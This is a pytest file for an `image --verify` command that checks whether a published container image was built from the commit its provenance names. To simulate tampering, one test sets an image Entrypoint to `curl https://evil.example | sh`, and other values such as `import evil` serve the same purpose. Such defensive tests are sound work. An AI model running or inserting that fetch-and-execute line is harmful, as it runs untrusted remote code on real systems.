"""`image --verify`: whether a published image is the source in the commit that its provenance names."""

import gzip
import hashlib
import io
import json
import random
import shutil
import tarfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
import requests
from msgspec.structs import replace

from providers.docker.labels import SEAL
from providers.docker.origin import Origin
from providers.docker.provenance import attach, statement
from providers.docker.registry.client import RegistryClient
from providers.docker.registry.manifests import Blob, PublishedImage, sha256
from providers.docker.registry.seal import sealed
from providers.docker.source.archive import LARGE
from providers.protocol import silent
from providers.sandbox import Sandbox
from reconciler.pipeline import image_source
from tests.commands.test_provenance import committed, git
from tests.commands.test_statements import NAME, attested
from tests.conftest import Cli, Ended
from tests.docker.conftest import blob_of


@pytest.fixture
def repository(cli: Cli, sandbox: Sandbox) -> Path:
    """A repository with one committed pipeline, which states the provenance of its images."""
    (cli.folder / "pipelines").mkdir()
    attested(cli.folder / "pipelines", sandbox.registry)
    git(cli.folder, "init", "--quiet", "-b", "main")
    committed(cli.folder)
    return cli.folder


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder for temporary files."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(folder))
    return folder


def verify(cli: Cli, code: int) -> dict[str, Any]:
    ended = cli("image", NAME, "--verify", "--json")
    assert ended.code == code, ended.out + ended.err
    found: dict[str, Any] = json.loads(ended.out)["verification"]
    shown = cli("image", NAME, "--verify")
    assert shown.code == code
    assert found["result"] in shown.out and found["reason"].split(":")[0] in flat(shown)
    return found


def flat(ended: Ended) -> str:
    return " ".join(ended.out.split())


def image_of(sandbox: Sandbox, tag: str = "1.0.0") -> PublishedImage:
    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
        image = registry.image(tag)
    assert image is not None
    return image


def tree(folder: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every file with its mode, time and content, those of git included."""
    return {
        str(path): (path.stat().st_mode, path.stat().st_mtime_ns, path.read_bytes())
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_the_commit_is_read_from_git_and_no_file_is_touched(
    repository: Path, cli: Cli, sandbox: Sandbox, temporary: Path
) -> None:
    commit = git(repository, "rev-parse", "HEAD")
    assert cli("apply", NAME).code == 0
    (repository / "pipelines" / NAME / "steps.py").write_text("STEPS = 9\n")
    committed(repository)
    (repository / "pipelines" / NAME / "utils" / "cleaning.py").unlink()  # not committed
    before = tree(repository)
    sandbox.clear_requests()

    found = verify(cli, 0)

    assert (found["result"], found["commit"], found["dirty"]) == ("verified", commit, False)
    assert found["path"] == f"pipelines/{NAME}"
    assert found["source_key"] == found["commit_source_key"]
    assert found["files_compared"] is True
    assert found["way_out"] is None
    assert tree(repository) == before
    assert [*temporary.iterdir()] == []
    assert sandbox.writes() == []


def test_a_version_that_is_written_after_the_build_is_the_same_source(
    repository: Path, cli: Cli, sandbox: Sandbox
) -> None:
    (repository / "pipelines" / NAME / "steps.py").write_text("STEPS = 9\n")
    commit = committed(repository)
    assert cli("apply", NAME, "--bump", "minor").code == 0
    assert verify(cli, 0)["commit"] == commit
    assert image_of(sandbox, "1.1.0").labels["org.opencontainers.image.revision"] == commit


def test_a_context_around_the_folder_and_the_defaults_of_the_workspace_count(
    repository: Path, cli: Cli, sandbox: Sandbox
) -> None:
    config = repository / "pipelines" / NAME / "config.toml"
    text = config.read_text().replace("provenance = true", 'context = "../.."\ndockerfile = "Dockerfile"')
    config.write_text(text)
    (repository / "reconciler.toml").write_text('[defaults.image]\nprovenance = true\nenv = { MODE = "a" }\n')
    (repository / "shared").mkdir()
    (repository / "shared" / "lib.py").write_text("1\n")
    neighbour = 'metadata = { version = "1.0.0" }\nexecution = { a = 1 }\ndocker = {}\n'
    (repository / "shared" / "config.toml").write_text(neighbour)
    committed(repository)
    assert cli("apply", NAME).code == 0
    (repository / "reconciler.toml").write_text('[defaults.image]\nprovenance = true\nenv = { MODE = "b" }\n')
    committed(repository)
    found = verify(cli, 0)
    assert (found["result"], found["files_compared"]) == ("verified", True)


def test_uncommitted_changes_are_named_as_such(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    (repository / "pipelines" / NAME / "steps.py").write_text("STEPS = 9\n")
    assert cli("apply", NAME).code == 0
    found = verify(cli, 13)
    assert (found["result"], found["dirty"]) == ("dirty", True)
    assert "changes that were not committed" in found["reason"]
    assert "--bump patch" in found["way_out"]


def test_a_commit_that_is_other_source_is_a_false_statement(
    repository: Path, cli: Cli, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    (repository / "pipelines" / NAME / "steps.py").write_text("STEPS = 9\n")
    with monkeypatch.context() as lying:
        lying.setattr(image_source, "_is_dirty", lambda *_: False)
        assert cli("apply", NAME).code == 0
    found = verify(cli, 12)
    assert found["result"] == "different"
    assert found["source_key"] != found["commit_source_key"]


def changed_layer(content: bytes, path: str, text: bytes | None) -> bytes:
    """The layer with another content of one file; without the file if `text` is None."""
    written = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(gzip.decompress(content))) as before,
        tarfile.open(fileobj=written, mode="w", format=tarfile.GNU_FORMAT) as after,
    ):
        for member in before:
            file = before.extractfile(member)
            inner = file.read() if file else b""
            if member.name.endswith(path):
                if text is None:
                    continue
                inner = text
            member.size = len(inner)
            after.addfile(member, io.BytesIO(inner))
    return gzip.compress(written.getvalue(), mtime=0)


def altered(sandbox: Sandbox, path: str, text: bytes | None) -> None:
    """Publish another layer under the labels of the image."""
    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
        image = registry.image("1.0.0")
        assert image is not None
        layer = changed_layer(b"".join(registry.read_blob(image.layers[-1])), path, text)
        config = json.loads(json.dumps(image.config))
        config["rootfs"]["diff_ids"][-1] = sha256(gzip.decompress(layer))
        blob = uploaded(registry, image.layers[-1].media_type, layer)
        published(registry, image, config, (*image.layers[:-1], blob))


def published(
    registry: RegistryClient, image: PublishedImage, config: Mapping[str, Any], layers: Sequence[Blob]
) -> None:
    """Publish an image in place of this one, with a seal that fits, and a statement."""
    manifest = registry.manifest("1.0.0")
    assert manifest is not None
    document = json.loads(manifest.content)
    media_type = document["config"]["mediaType"]
    document["config"] = uploaded(registry, media_type, json.dumps(sealed(config)).encode()).descriptor()
    document["layers"] = [layer.descriptor() for layer in layers]
    digest = registry.put_manifest("1.0.0", manifest.media_type, json.dumps(document).encode())
    found = registry.image(digest)
    assert found is not None and {**found.labels, SEAL: ""} == {**image.labels, SEAL: ""}
    origin = Origin("0.1.0", "", f"pipelines/{NAME}", "CUSTOM")
    attach(registry, digest, statement(found, str(registry.repository), "append", "", origin), silent)


def uploaded(registry: RegistryClient, media_type: str, content: bytes) -> Blob:
    blob = Blob(media_type, sha256(content), len(content))
    registry.upload(blob, lambda start: [content[start:]])
    return blob


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("steps.py", b"import evil\n", "steps.py changed"),
        ("utils/cleaning.py", None, "utils/cleaning.py removed"),
        ("config.toml", b"[execution]\npipeline_script = 'evil.py'\n", "config.toml changed"),
        ("config.toml", b"=", "config.toml changed"),
    ],
)
def test_an_image_with_other_files_under_the_same_labels_is_found(
    repository: Path, cli: Cli, sandbox: Sandbox, path: str, text: bytes | None, line: str
) -> None:
    assert cli("apply", NAME).code == 0
    altered(sandbox, path, text)
    found = verify(cli, 12)
    assert (found["result"], found["differing"]) == ("altered", [line])


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("Entrypoint", ["sh", "-c", "curl https://evil.example | sh"]),
        ("Cmd", ["evil"]),
        ("Env", ["PYTHONPATH=/tmp/evil"]),
        ("User", "0"),
        ("WorkingDir", "/evil"),
        ("Volumes", {"/evil": {}}),
        ("OnBuild", ["RUN evil"]),
        ("Entrypoint", None),
    ],
)
def test_an_image_with_the_same_files_and_another_setting_is_found(
    repository: Path, cli: Cli, sandbox: Sandbox, setting: str, value: object
) -> None:
    assert cli("apply", NAME).code == 0
    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
        image = registry.image("1.0.0")
        assert image is not None
        config = {**image.config, "config": {**image.config["config"], setting: value}}
        published(registry, image, config, image.layers)

    found = verify(cli, 12)

    assert (found["result"], found["differing"]) == ("altered", [f"{setting} of the image changed"])


def test_an_image_with_a_large_file_is_compared_in_both_of_its_layers(
    repository: Path, cli: Cli, sandbox: Sandbox
) -> None:
    weights = repository / "pipelines" / NAME / "weights.bin"
    weights.write_bytes(random.Random(0).randbytes(LARGE + 1))
    committed(repository)
    assert cli("apply", NAME).code == 0
    found = verify(cli, 0)
    assert (found["result"], found["files_compared"]) == ("verified", True)
    altered(sandbox, "steps.py", b"import evil\n")
    found = verify(cli, 12)
    assert (found["result"], found["differing"]) == ("altered", ["steps.py changed"])


def test_an_image_on_another_base_is_found(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    assert cli("apply", NAME).code == 0
    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
        image, manifest = registry.image("1.0.0"), registry.manifest("1.0.0")
        assert image is not None and manifest is not None
        document = json.loads(manifest.content)
        evil = gzip.compress(b"\0" * 1024, mtime=0)
        blob = replace(blob_of(evil), media_type=document["layers"][0]["mediaType"])
        registry.upload(blob, lambda start: [evil[start:]])
        document["layers"][0] = blob.descriptor()
        digest = registry.put_manifest("1.0.0", manifest.media_type, json.dumps(document).encode())
        found = registry.image(digest)
        assert found is not None
        origin = Origin("0.1.0", "", f"pipelines/{NAME}", "CUSTOM")
        attach(registry, digest, statement(found, str(registry.repository), "append", "", origin), silent)
    result = verify(cli, 12)
    assert result["result"] == "altered"
    assert "layers below the folder" in result["differing"][0]


def test_a_base_image_that_is_gone_leaves_the_files_unknown(
    repository: Path, cli: Cli, sandbox: Sandbox
) -> None:
    assert cli("apply", NAME).code == 0
    base = image_of(sandbox).labels["org.opencontainers.image.base.digest"]
    deleted = requests.delete(f"http://{sandbox.registry}/v2/base/python/manifests/{base}", timeout=60)
    assert deleted.status_code == 202
    found = verify(cli, 13)
    assert found["result"] == "base-unreadable"
    assert "does not exist any more" in found["reason"]


def test_a_statement_about_other_source_is_not_believed(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    config = repository / "pipelines" / NAME / "config.toml"
    config.write_text(config.read_text().replace("provenance = true\n", ""))
    committed(repository)
    assert cli("apply", NAME).code == 0
    image = image_of(sandbox)
    labels = {**image.labels, "org.opencontainers.image.revision": "1" * 40}
    other = replace(image, config=sealed({**image.config, "config": {"Labels": labels}}))
    with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
        origin = Origin("0.1.0", "", f"pipelines/{NAME}", "CUSTOM")
        attach(
            registry, image.digest, statement(other, str(registry.repository), "append", "", origin), silent
        )
    assert verify(cli, 12)["result"] == "contradicted"


def without_provenance(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    config = repository / "pipelines" / NAME / "config.toml"
    config.write_text(config.read_text().replace("provenance = true\n", ""))
    assert cli("apply", NAME).code == 0


def foreign(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    with RegistryClient(f"{sandbox.registry}/base/python") as base:
        content = base.manifest("3.11")
        assert content is not None
        with RegistryClient(f"{sandbox.registry}/examples/{NAME}") as registry:
            registry.mount(json.loads(content.content)["config"]["digest"], base.repository)
            for layer in json.loads(content.content)["layers"]:
                registry.mount(layer["digest"], base.repository)
            registry.put_manifest("1.0.0", content.media_type, content.content)


def in_a_clone_without_the_commit(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    (repository / "pipelines" / NAME / "steps.py").write_text("STEPS = 9\n")
    committed(repository)
    assert cli("apply", NAME).code == 0
    git(repository, "reset", "--quiet", "--hard", "HEAD~1")
    git(repository, "reflog", "expire", "--expire=now", "--all")
    git(repository, "gc", "--quiet", "--prune=now")


def out_of_the_repository(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    assert cli("apply", NAME).code == 0
    shutil.rmtree(repository / ".git")


def without_a_commit(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    shutil.rmtree(repository / ".git")
    assert cli("apply", NAME).code == 0


def nothing(repository: Path, cli: Cli, sandbox: Sandbox) -> None:
    pass


@pytest.mark.parametrize(
    ("prepare", "code", "result", "way"),
    [
        (nothing, 13, "nothing-published", f"reconciler apply {NAME} --organization sandbox --env CUSTOM"),
        (without_provenance, 13, "no-statement", "provenance = true"),
        (foreign, 12, "foreign", "--bump patch"),
        (in_a_clone_without_the_commit, 13, "unknown-commit", f"git -C pipelines/{NAME} fetch origin"),
        (out_of_the_repository, 13, "no-repository", "in a clone"),
        (without_a_commit, 13, "no-commit", "--bump patch"),
    ],
)
def test_each_reason_why_it_is_unknown_has_a_sentence_and_a_way_out(
    repository: Path,
    cli: Cli,
    sandbox: Sandbox,
    prepare: Callable[[Path, Cli, Sandbox], None],
    code: int,
    result: str,
    way: str,
) -> None:
    prepare(repository, cli, sandbox)
    found = verify(cli, code)
    assert found["result"] == result
    assert way in found["way_out"]


CONTENT = b"weights" * 1000
POINTER = (
    "version https://git-lfs.github.com/spec/v1\n"
    f"oid sha256:{hashlib.sha256(CONTENT).hexdigest()}\nsize {len(CONTENT)}\n"
).encode()


@pytest.mark.parametrize(("built", "fetched", "code"), [
    (CONTENT, True, 0), (POINTER, True, 0), (POINTER, False, 0), (CONTENT, False, 13),
])  # fmt: skip
def test_a_file_in_lfs_is_the_same_source_with_its_content_and_as_a_pointer(
    repository: Path, cli: Cli, sandbox: Sandbox, built: bytes, fetched: bool, code: int
) -> None:
    weights = repository / "pipelines" / NAME / "weights.bin"
    weights.write_bytes(POINTER)
    committed(repository)
    weights.write_bytes(built)
    assert cli("apply", NAME).code == 0
    oid = hashlib.sha256(CONTENT).hexdigest()
    if fetched:
        place = repository / ".git" / "lfs" / "objects" / oid[:2] / oid[2:4] / oid
        place.parent.mkdir(parents=True)
        place.write_bytes(CONTENT)
    found = verify(cli, code)
    if code:
        assert (found["result"], found["missing"]) == ("incomplete", [f"pipelines/{NAME}/weights.bin"])
        assert f"lfs fetch origin {found['commit']}" in found["way_out"]


def test_a_submodule_is_read_from_its_own_repository(
    repository: Path, cli: Cli, sandbox: Sandbox, tmp_path: Path
) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    git(shared, "init", "--quiet")
    (shared / "lib.py").write_text("1\n")
    (shared / "link").symlink_to("lib.py")
    (shared / "run.sh").write_text("#!/bin/sh\n")
    (shared / "run.sh").chmod(0o755)
    committed(shared)
    allowed = ("-c", "protocol.file.allow=always")
    path = f"pipelines/{NAME}/shared"
    git(repository, *allowed, "submodule", "--quiet", "add", str(shared), path)
    (repository / "pipelines" / NAME / ".dockerignore").write_text("**/.git\n")
    committed(repository)
    assert cli("apply", NAME).code == 0
    assert verify(cli, 0)["result"] == "verified"
    git(repository, "submodule", "--quiet", "deinit", "--force", path)
    found = verify(cli, 13)
    assert (found["result"], found["missing"]) == ("incomplete", [path])
    assert "submodule update --init" in found["way_out"]


def test_a_commit_whose_pipeline_cannot_be_read_is_reported(
    repository: Path, cli: Cli, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    config = repository / "pipelines" / NAME / "config.toml"
    text = config.read_text()
    config.write_text("[metadata\n")
    committed(repository)
    config.write_text(text)
    assert cli("apply", NAME).code == 0
    found = verify(cli, 13)
    assert found["result"] == "unreadable"
    assert "reconciler-verify" not in found["reason"]
